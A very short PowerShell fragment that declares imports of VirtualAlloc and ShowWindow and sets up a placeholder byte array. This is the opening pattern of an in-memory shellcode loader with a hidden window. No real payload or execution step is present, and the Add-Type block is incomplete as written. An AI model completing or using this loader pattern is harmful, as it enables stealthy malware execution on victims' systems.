Add-Type @"
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("user32.dll")] public static extern bool ShowWindow(IntPtr h, int c);
"@
[Byte[]]$b = 0x01,0x02
